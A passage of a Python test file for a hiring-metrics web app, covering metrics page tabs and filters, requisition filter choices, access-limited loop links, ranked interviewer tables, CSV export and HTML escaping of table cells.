    assert client.get(response.headers["Location"]).status_code == 200
    assert twelve_months_from(datetime(2026, 11, 30)) == "2025-12-01"
    assert twelve_months_from(datetime(2026, 1, 1)) == "2025-02-01"
    assert twelve_months_from(datetime(2026, 12, 31)) == "2026-01-01"


def test_the_interviewers_have_their_own_page_and_both_pages_keep_the_filters(app, client, auth, recruiter, staffed):
    """The loops' metrics and the interviewers' (calibration, coaching) are two pages; moving between them keeps
    the filters, all time included, and the loops' page never reads the viewer's readable votes."""
    with app.app_context():
        engine = db.engine
    auth.login(recruiter)
    parameters = []

    def keep(conn, cursor, statement, params, context, executemany):
        parameters.append(str(params))

    event.listen(engine, "before_cursor_execute", keep)
    try:
        html = client.get(f"/metrics?bar_raiser={staffed['other']}&date_from=").get_data(as_text=True)
    finally:
        event.remove(engine, "before_cursor_execute", keep)
    assert 'id="funnel"' in html and 'id="stalled"' in html
    assert 'id="calibration"' not in html and 'id="coaching"' not in html
    assert not [params for params in parameters if "reader" in params]  # no reader rollup read for this page
    tabs = html[html.index('aria-label="Metrics pages"'):].split("</nav>")[0]
    assert '<span aria-current="page">Loops and steps</span>' in tabs
    assert f'href="/metrics/interviewers?bar_raiser={staffed["other"]}&amp;date_from="' in tabs

    page = client.get(f"/metrics/interviewers?bar_raiser={staffed['other']}&date_from=")
    assert page.status_code == 200
    html = page.get_data(as_text=True)
    assert "<title>Interviewer metrics" in html and "<h1>Interviewers</h1>" in html
    assert 'id="calibration"' in html and 'id="coaching"' in html and 'id="funnel"' not in html
    tabs = html[html.index('aria-label="Metrics pages"'):].split("</nav>")[0]
    assert '<span aria-current="page">Interviewers</span>' in tabs
    assert f'href="/metrics?bar_raiser={staffed["other"]}&amp;date_from="' in tabs
    # The filter form sends to the page it is on.
    assert 'action="/metrics/interviewers"' in html
    # A first visit opens on the last twelve months there too; bad filters are a 400 there too.
    first = client.get("/metrics/interviewers")
    assert first.status_code == 302 and "date_from=" in first.headers["Location"]
    assert client.get("/metrics/interviewers?date_from=not-a-date").status_code == 400


def test_metrics_rows_link_only_the_loops_the_viewer_may_open(app, client, auth, recruiter):
    with app.app_context():
        me = db.session.get(User, recruiter.id)
        mine = factories.make_loop(Step.WRITTEN_FEEDBACK, recruiter=me)  # its feedback is two days late
        theirs = factories.make_loop(Step.WRITTEN_FEEDBACK)
        db.session.commit()
        ids, names = (mine.id, theirs.id), (mine.candidate.name, theirs.candidate.name)
    auth.login(recruiter)
    html = client.get("/metrics?date_from=").get_data(as_text=True)
    late = html[html.index('id="late-feedback"'):]
    assert f'<a href="/loops/{ids[0]}">{names[0]}</a>' in late
    assert f"/loops/{ids[1]}" not in html
    assert f"{names[1]}<span class=\"cell-sub\">Counted here; you are not part of this loop</span>" in late
    assert client.get(f"/loops/{ids[1]}").status_code == 404  # what the link would have led to


def test_the_requisition_filter_offers_open_and_recent_requisitions_and_keeps_a_bookmarked_old_one(
        app, client, auth, recruiter):
    import re

    with app.app_context():
        old = factories.make_loop(recruiter=user(recruiter))
        old.created_at = NOW - 800 * DAY
        close(old, LoopStatus.WITHDRAWN, at=NOW - 790 * DAY)
        old.requisition.title = "Staff Accountant"
        old.requisition.status, old.requisition.closed_at = "closed", NOW - 780 * DAY
        factories.make_loop(recruiter=user(recruiter))  # an open requisition, this year
        db.session.commit()
        old_requisition = old.requisition_id

    def offered(url: str) -> str:
        page = client.get(url)
        assert page.status_code == 200
        return re.search(r'<select[^>]*name="requisition".*?</select>', page.get_data(as_text=True), re.S).group(0)

    auth.login(recruiter)
    choices = offered("/metrics?date_from=")
    assert "Senior Software Engineer, Payments" in choices
    assert "Staff Accountant" not in choices  # closed, and nothing of it in the last twelve months
    assert "Staff Accountant" in offered(f"/metrics?date_from=&requisition={old_requisition}")  # a bookmark works


def test_the_requisition_filter_offers_the_latest_closed_requisitions_and_a_requisition_links_its_metrics(
        app, client, auth, recruiter, monkeypatch):
    """A big company closes more requisitions a year than a list can offer: the filter lists the open ones and
    the most recently closed; any other is reached from its requisition's page, and stays chosen."""
    import re

    from app.metrics import forms

    with app.app_context():
        titles = {}
        for title, closed_days_ago in (("Payroll Analyst", 40), ("Tax Manager", 10)):
            loop = factories.make_loop(recruiter=user(recruiter))
            close(loop, LoopStatus.WITHDRAWN, at=NOW - (closed_days_ago + 1) * DAY)
            loop.requisition.title = title
            loop.requisition.status, loop.requisition.closed_at = "closed", NOW - closed_days_ago * DAY
            titles[title] = loop.requisition_id
        factories.make_loop(recruiter=user(recruiter))  # an open requisition
        db.session.commit()

    def offered(url: str) -> str:
        page = client.get(url)
        assert page.status_code == 200
        return re.search(r'<select[^>]*name="requisition".*?</select>', page.get_data(as_text=True), re.S).group(0)

    monkeypatch.setattr(forms, "REQUISITION_CHOICES", 1)
    auth.login(recruiter)
    choices = offered("/metrics?date_from=")
    assert "Senior Software Engineer, Payments" in choices  # open
    assert "Tax Manager" in choices  # the latest closed
    assert "Payroll Analyst" not in choices  # closed earlier: one past the list's length
    page = client.get(f"/requisitions/{titles['Payroll Analyst']}").get_data(as_text=True)
    link = f'href="/metrics?requisition={titles["Payroll Analyst"]}&amp;date_from="'
    assert link in page
    chosen = offered(f"/metrics?requisition={titles['Payroll Analyst']}&date_from=")
    assert re.search(r'<option[^>]*selected[^>]*>Payroll Analyst', chosen)


def test_the_rows_of_a_long_table_are_made_only_when_read():
    from app.metrics.report import Rows

    made = []
    rows = Rows(list(range(1000)), lambda n: made.append(n) or [n, n * 2])
    assert len(rows) == 1000 and not made
    assert rows[:2] == [[0, 0], [1, 2]] and made == [0, 1]
    assert rows[999] == [999, 1998]
    assert sum(1 for _ in rows) == 1000 and len(made) == 1003


def test_a_ranked_table_names_only_the_people_its_first_rows_need(app):
    """Interviewers rank by score, then by name (as Python orders names, on both databases); the first rows
    name those above the last row's score and the first few tied at it, in the order the whole table has."""
    from app.metrics.rolled import Ranked

    with app.app_context():
        names = ["bo", "Zed", "Émile", "al", "Al", "Ülla", "Ana", "zoë", "Carl", "Dee", "Eve", "Fay"]
        ids = [factories.make_user(name=name).id for name in names]
        db.session.commit()
        scores = dict(zip(ids, [3, 1, 1, 0, 0, 0, 2, 0, 0, 1, 0, 0], strict=True))
        expected = [name for name, _ in sorted(zip(names, ids, strict=True),
                                               key=lambda pair: (-scores[pair[1]], pair[0], pair[1]))]
        statements = []

        def count(*args):
            statements.append(1)

        event.listen(db.engine, "before_cursor_execute", count)
        try:
            for n in range(len(names) + 2):
                ranked = Ranked(scores, lambda person: person.name)
                statements.clear()
                assert ranked[:n] == expected[:n], n
                assert len(ranked.named) <= n + sum(1 for s in scores.values() if s > 0)
                assert len(statements) <= 2
            ranked = Ranked(scores, lambda person: person.name)
            assert ranked[4] == expected[4] and ranked[-1] == expected[-1] and ranked[::-1] == expected[::-1]
            assert list(ranked) == expected and len(ranked) == len(names)
            assert ranked[2:5] == expected[2:5]
        finally:
            event.remove(db.engine, "before_cursor_execute", count)


def test_an_all_time_table_is_ranked_paged_and_counted_by_the_database(app):
    """For all time, an interviewer table reads the viewer's rows per interviewer: ranked by score, then by name
    as Python orders names, on both databases; the first rows, and how many there are, in one statement; the
    rest (the CSV's) in one more. Interviewers with nothing sealed are not listed."""
    from app.metrics.models import ReadableCounts
    from app.metrics.rolled import Interviewers, calibration_ever, coaching_ever

    with app.app_context():
        reader = factories.make_user(name="Reader")
        names = ["bo", "Zed", "Émile", "al", "Al", "Ülla", "Ana", "zoë", "Carl", "Dee", "Eve", "Fay"]
        ids = [factories.make_user(name=name).id for name in names]
        votes = dict(zip(ids, [3, 1, 1, 1, 1, 1, 2, 1, 1, 1, 1, 1], strict=True))
        flags = dict(zip(ids, [0, 1, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0], strict=True))
        for person in ids:
            counts = {"vote:inclined:hire": votes[person]}
            if flags[person]:
                counts["flag:vague"] = flags[person]
            db.session.add(ReadableCounts(reader_id=reader.id, interviewer_id=person, votes=votes[person],
                                          sealed=votes[person], flags=flags[person], counts=counts))
        nobody = factories.make_user(name="Aaron")  # a row that came to nothing (a withdrawn vote)
        db.session.add(ReadableCounts(reader_id=reader.id, interviewer_id=nobody.id, votes=0, sealed=0, flags=0,
                                      counts={}))
        db.session.commit()
        by = {name: person for name, person in zip(names, ids, strict=True)}
        reader_id, nobody_id = reader.id, nobody.id

        def order(scores):
            return sorted(names, key=lambda name: (-scores[by[name]], name, by[name]))

        statements = []

        def count(*args):
            statements.append(1)

        event.listen(db.engine, "before_cursor_execute", count)
        try:
            everyone = Interviewers(reader_id)
            statements.clear()
            assert len(everyone) == len(names) and len(statements) == 1  # counted once, for both tables
            for table, scores in ((calibration_ever(everyone), votes), (coaching_ever(everyone), flags)):
                expected = order(scores)
                statements.clear()
                assert len(table) == len(names) and [r.interviewer.name for r in table[:5]] == expected[:5]
                assert len(statements) == 1
                assert [r.interviewer.name for r in table] == expected and len(statements) == 1  # all fit the first
            calibration = calibration_ever(Interviewers(reader_id))
            assert calibration[0].interviewer.name == "bo" and calibration[0].total == 3
            assert calibration[0].distribution[Vote.INCLINED] == 3 and calibration[0].match_rate == 100.0
            assert calibration[-1].interviewer.name == order(votes)[-1]
            assert [r.interviewer.name for r in calibration[::-1]] == order(votes)[::-1]
            coaching = coaching_ever(Interviewers(reader_id))
            assert (coaching[0].interviewer.name, coaching[0].sealed, coaching[0].flagged) == ("Dee", 1, {"vague": 2})
            with pytest.raises(IndexError):
                coaching[len(names)]
            assert not calibration_ever(Interviewers(nobody_id)) and len(coaching_ever(Interviewers(nobody_id))) == 0
        finally:
            event.remove(db.engine, "before_cursor_execute", count)


def test_a_long_all_time_table_reads_its_first_rows_then_the_rest(app, monkeypatch):
    from app.metrics import timing
    from app.metrics.models import ReadableCounts
    from app.metrics.rolled import Interviewers, calibration_ever

    monkeypatch.setattr(timing, "FIRST_ROWS", 3)
    with app.app_context():
        reader = factories.make_user(name="Reader")
        people = [factories.make_user(name=f"Person {n:02}") for n in range(8)]
        for n, person in enumerate(people):
            db.session.add(ReadableCounts(reader_id=reader.id, interviewer_id=person.id, votes=n, sealed=n or 1,
                                          flags=0, counts={"vote:inclined:hire": n} if n else {}))
        db.session.commit()
        reader_id, statements = reader.id, []

        def count(*args):
            statements.append(1)

        event.listen(db.engine, "before_cursor_execute", count)
        try:
            table = calibration_ever(Interviewers(reader_id))
            assert len(table) == 8 and len(statements) == 1
            assert [r.interviewer.name for r in table[:2]] == ["Person 07", "Person 06"] and len(statements) == 2
            assert table[2].interviewer.name == "Person 05" and len(statements) == 2
            assert [r.total for r in table] == [7, 6, 5, 4, 3, 2, 1, 0] and len(statements) == 3
        finally:
            event.remove(db.engine, "before_cursor_execute", count)


def test_a_long_table_shows_its_first_rows_and_its_csv_has_them_all(client, auth, app, recruiter, monkeypatch):
    """A table of every interviewer shows the first rows on the page, says so, and the CSV lists every one."""
    from app.metrics import views

    with app.app_context():
        loop = factories.make_loop(Step.DEBRIEF, recruiter=user(recruiter))
        decide(loop, Outcome.HIRE, Verdict.CONCUR, at=last_end(loop) + 2 * DAY)
        db.session.commit()
    auth.login(recruiter)
    rows = list(csv.reader(io.StringIO(client.get("/metrics/calibration.csv?date_from=").get_data(as_text=True))))
    interviewers = len(rows) - 1
    assert interviewers >= 2
    monkeypatch.setattr(views, "PAGE_ROWS", 1)
    html = client.get("/metrics/interviewers?date_from=").get_data(as_text=True)
    calibration = html[html.index('id="calibration"'):html.index('id="coaching"')]
    assert calibration.count('<th scope="row"') == 1
    assert f"The first 1 of {interviewers} rows, in the table's order; the CSV has every one." in calibration


def test_a_table_renders_its_cells_escaped_and_formatted(app):
    from app.metrics.report import Column, Link, Table

    table = Table([Column("Who"), Column("#Votes", numeric=True), Column("Rate <%>", numeric=True)],
                  [[Link("<b>Ann</b>", "/metrics/interviewers/1"), 12345, 12.34],
                   [Link("Bo & Co", None), None, True], ["<script>", 1, 0.05]])
    with app.test_request_context():
        html = str(table.body(limit=2))
    assert '<th scope="row"><a href="/metrics/interviewers/1">&lt;b&gt;Ann&lt;/b&gt;</a></th>' in html
    assert '<td class="num" data-label="#Votes">12,345</td>' in html
    assert '<td class="num" data-label="Rate &lt;%&gt;">12.3</td>' in html
    assert "Bo &amp; Co<span class=\"cell-sub\">Counted here; you are not part of this loop</span>" in html
    assert 'aria-hidden="true">—</span><span class="visually-hidden">no value</span>' in html
    assert "<script>" not in html and html.count("<tr>") == 2
